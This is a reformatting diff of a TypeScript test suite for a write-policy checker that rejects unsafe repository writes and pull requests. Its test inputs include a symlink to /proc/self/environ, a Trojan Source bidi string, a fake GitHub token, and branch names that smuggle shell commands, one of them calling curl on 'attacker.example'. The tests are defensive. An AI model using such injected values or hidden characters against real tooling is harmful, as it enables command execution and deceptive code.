@@ -134,13 +134,19 @@ describe('evaluateWritePlan', () => {
   describe('file modes', () => {
     it('refuses symlinks and submodules whatever the policy says', () => {
       const lax = createWritePolicy({ ...policy, allowedModes: ['100644', '100755', '120000', '160000'] });
-      expect(rules(plan([{ path: 'docs/env', content: '/proc/self/environ', mode: '120000' }]), lax)).toEqual(['mode-symlink']);
-      expect(rules(plan([{ path: 'third/lib', content: 'x', mode: '160000' }]), lax)).toEqual(['mode-submodule']);
+      expect(rules(plan([{ path: 'docs/env', content: '/proc/self/environ', mode: '120000' }]), lax)).toEqual(
+        ['mode-symlink'],
+      );
+      expect(rules(plan([{ path: 'third/lib', content: 'x', mode: '160000' }]), lax)).toEqual([
+        'mode-submodule',
+      ]);
     });
     it('refuses executables unless allowed', () => {
       const file: FileChange = { path: 'hack/run.sh', content: '#!/bin/sh\n', mode: '100755' };
       expect(rules(plan([file]))).toEqual(['mode-not-allowed']);
-      expect(rules(plan([file]), createWritePolicy({ ...policy, allowedModes: ['100644', '100755'] }))).toEqual([]);
+      expect(
+        rules(plan([file]), createWritePolicy({ ...policy, allowedModes: ['100644', '100755'] })),
+      ).toEqual([]);
     });
     it('refuses tree entries as files', () => {
       expect(rules(plan([{ path: 'pkg/x', content: 'x', mode: '040000' }]))).toEqual(['mode-not-allowed']);
@@ -154,11 +160,21 @@ describe('evaluateWritePlan', () => {
     });
     it('caps one file, the total and the lines', () => {
       const small = createWritePolicy({ ...policy, maxFileBytes: 100, maxTotalBytes: 150, maxLines: 10 });
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'x'.repeat(101) }]), small)).toContain('file-too-large');
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'x'.repeat(101) }]), small)).toContain(
+        'file-too-large',
+      );
       expect(
-        rules(plan([{ path: 'pkg/a.go', content: 'x'.repeat(80) }, { path: 'pkg/b.go', content: 'y'.repeat(80) }]), small),
+        rules(
+          plan([
+            { path: 'pkg/a.go', content: 'x'.repeat(80) },
+            { path: 'pkg/b.go', content: 'y'.repeat(80) },
+          ]),
+          small,
+        ),
       ).toEqual(['total-too-large']);
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'l\n'.repeat(11) }]), small)).toEqual(['too-many-lines']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'l\n'.repeat(11) }]), small)).toEqual([
+        'too-many-lines',
+      ]);
     });
   });
 
@@ -167,67 +183,125 @@ describe('evaluateWritePlan', () => {
       const bin: FileChange = { path: 'pkg/blob.bin', content: new Uint8Array([0x89, 0x50, 0x00, 0x01]) };
       expect(rules(plan([bin]))).toEqual(['content-binary']);
       expect(rules(plan([bin]), createWritePolicy({ ...policy, allowBinary: true }))).toEqual([]);
-      expect(rules(plan([{ path: 'pkg/bad.txt', content: new Uint8Array([0xff, 0xfe, 0x41]) }]))).toEqual(['content-binary']);
+      expect(rules(plan([{ path: 'pkg/bad.txt', content: new Uint8Array([0xff, 0xfe, 0x41]) }]))).toEqual([
+        'content-binary',
+      ]);
     });
     it('refuses bidi and tag characters (Trojan Source, C12)', () => {
       const trojan = '/* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
       expect(rules(plan([{ path: 'pkg/a.go', content: trojan }]))).toEqual(['content-hidden-characters']);
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'ok \u{E0041}\u{E0042}' }]))).toEqual(['content-hidden-characters']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'ok \u{E0041}\u{E0042}' }]))).toEqual([
+        'content-hidden-characters',
+      ]);
     });
     it('refuses content that carries a secret (F5)', () => {
       const token = `ghp_${'A1b2'.repeat(9)}`;
-      expect(rules(plan([{ path: 'pkg/config.go', content: `const token = "${token}"\n` }]))).toEqual(['content-secret']);
+      expect(rules(plan([{ path: 'pkg/config.go', content: `const token = "${token}"\n` }]))).toEqual([
+        'content-secret',
+      ]);
     });
     it('refuses deletes unless allowed, and content-less writes', () => {
       expect(rules(plan([{ path: 'test/a_test.go', delete: true }]))).toEqual(['delete-not-allowed']);
-      expect(rules(plan([{ path: 'test/a_test.go', delete: true }]), createWritePolicy({ ...policy, allowDeletes: true }))).toEqual([]);
+      expect(
+        rules(
+          plan([{ path: 'test/a_test.go', delete: true }]),
+          createWritePolicy({ ...policy, allowDeletes: true }),
+        ),
+      ).toEqual([]);
       expect(rules(plan([{ path: 'test/a_test.go' }]))).toEqual(['content-missing']);
     });
     it('refuses the same path twice, however spelled', () => {
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }, { path: 'PKG/A.go', content: 'b' }]))).toEqual(['path-duplicate']);
+      expect(
+        rules(
+          plan([
+            { path: 'pkg/a.go', content: 'a' },
+            { path: 'PKG/A.go', content: 'b' },
+          ]),
+        ),
+      ).toEqual(['path-duplicate']);
     });
   });
 
   describe('repository, branch, message and pull request', () => {
     it('refuses repositories outside the allowlist (case-insensitive match)', () => {
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'attacker/repo' }))).toEqual(['repo-not-allowed']);
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'K8sNetworkPlumbingWG/PTP-Operator' }))).toEqual([]);
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'not a repo' }))).toEqual(['repo-invalid']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'attacker/repo' }))).toEqual([
+        'repo-not-allowed',
+      ]);
+      expect(
+        rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'K8sNetworkPlumbingWG/PTP-Operator' })),
+      ).toEqual([]);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'not a repo' }))).toEqual([
+        'repo-invalid',
+      ]);
     });
     it('refuses an empty allowlist', () => {
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }]), createWritePolicy())).toContain('repo-not-allowed');
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }]), createWritePolicy())).toContain(
+        'repo-not-allowed',
+      );
     });
     it.each(['main', 'MASTER', 'release-4.18', 'release/4.18'])('refuses protected branch %s', (branch) => {
       const open = createWritePolicy({ repos: [repo] });
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }), open)).toEqual(['branch-protected']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }), open)).toEqual([
+        'branch-protected',
+      ]);
     });
-    it.each(['-u', 'a;id', 'x@{0}', 'foo..bar', 'feature/$(curl${IFS}attacker.example)', 'refs/heads/x', 'a/.hidden', 'x.lock', 'HEAD'])(
-      'refuses unsafe branch name %j',
-      (branch) => {
-        expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }))).toEqual(['branch-invalid']);
-      },
-    );
+    it.each([
+      '-u',
+      'a;id',
+      'x@{0}',
+      'foo..bar',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell payload, not a template
+      'feature/$(curl${IFS}attacker.example)',
+      'refs/heads/x',
+      'a/.hidden',
+      'x.lock',
+      'HEAD',
+    ])('refuses unsafe branch name %j', (branch) => {
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }))).toEqual(['branch-invalid']);
+    });
     it('requires the configured branch prefix and a branch at all', () => {
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch: 'my-fix' }))).toEqual(['branch-prefix']);
-      expect(rules({ repo, message: 'm', files: [{ path: 'pkg/a.go', content: 'a' }] })).toEqual(['branch-missing']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch: 'my-fix' }))).toEqual([
+        'branch-prefix',
+      ]);
+      expect(rules({ repo, message: 'm', files: [{ path: 'pkg/a.go', content: 'a' }] })).toEqual([
+        'branch-missing',
+      ]);
     });
     it('requires a commit message without closing keywords', () => {
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: '  ' }))).toEqual(['message-missing']);
-      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: 'Fix offsets\n\nFixes #12' }))).toEqual(['closing-keyword']);
+      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: '  ' }))).toEqual([
+        'message-missing',
+      ]);
+      expect(
+        rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: 'Fix offsets\n\nFixes #12' })),
+      ).toEqual(['closing-keyword']);
     });
     it('forces draft pull requests and refuses closing keywords and bad titles', () => {
       const pr = { title: 'Fix offsets', body: 'Refs #12', base: 'main' };
       const base: WritePlan = { repo, branch: 'ci-fix-issue-12-1' };
       expect(rules({ ...base, pullRequest: pr })).toEqual([]);
       expect(rules({ ...base, pullRequest: { ...pr, draft: false } })).toEqual(['pr-not-draft']);
-      expect(rules({ ...base, pullRequest: { ...pr, draft: false } }, createWritePolicy({ ...policy, allowReadyPullRequests: true }))).toEqual([]);
+      expect(
+        rules(
+          { ...base, pullRequest: { ...pr, draft: false } },
+          createWritePolicy({ ...policy, allowReadyPullRequests: true }),
+        ),
+      ).toEqual([]);
       for (const body of ['Fixes #12', 'closes org/repo#3', 'Resolved: https://github.com/o/r/issues/4']) {
         expect(rules({ ...base, pullRequest: { ...pr, body } })).toEqual(['closing-keyword']);
       }
-      expect(rules({ ...base, pullRequest: { ...pr, body: 'Fixes #12' } }, createWritePolicy({ ...policy, allowClosingKeywords: true }))).toEqual([]);
-      expect(rules({ ...base, pullRequest: { ...pr, title: 'x'.repeat(257) } })).toEqual(['pr-title-invalid']);
+      expect(
+        rules(
+          { ...base, pullRequest: { ...pr, body: 'Fixes #12' } },
+          createWritePolicy({ ...policy, allowClosingKeywords: true }),
+        ),
+      ).toEqual([]);
+      expect(rules({ ...base, pullRequest: { ...pr, title: 'x'.repeat(257) } })).toEqual([
+        'pr-title-invalid',
+      ]);
       expect(rules({ ...base, pullRequest: { ...pr, title: 'two\nlines' } })).toEqual(['pr-title-invalid']);
-      expect(rules({ ...base, pullRequest: { ...pr, body: 'b'.repeat(60_001) } })).toEqual(['pr-body-too-long']);
+      expect(rules({ ...base, pullRequest: { ...pr, body: 'b'.repeat(60_001) } })).toEqual([
+        'pr-body-too-long',
+      ]);
       expect(rules({ ...base, pullRequest: { ...pr, base: '-x' } })).toEqual(['branch-invalid']);
     });
   });
